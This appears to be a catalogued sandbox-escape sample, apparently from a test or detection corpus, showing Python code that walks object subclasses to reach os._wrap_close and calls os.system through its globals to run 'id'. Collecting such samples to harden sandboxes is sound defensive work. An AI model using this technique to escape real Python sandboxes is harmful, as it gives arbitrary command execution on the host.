# Source: https://github.com/mcp-use/mcp-use/pull/1735 (().__class__.__base__.__subclasses__() -> __globals__ -> os.popen)
# Family: subclass-walk
# What: classic walk to os._wrap_close and its __init__.__globals__['system']
for c in ().__class__.__base__.__subclasses__():
    if c.__name__ == "_wrap_close":
        c.__init__.__globals__["system"]("id")
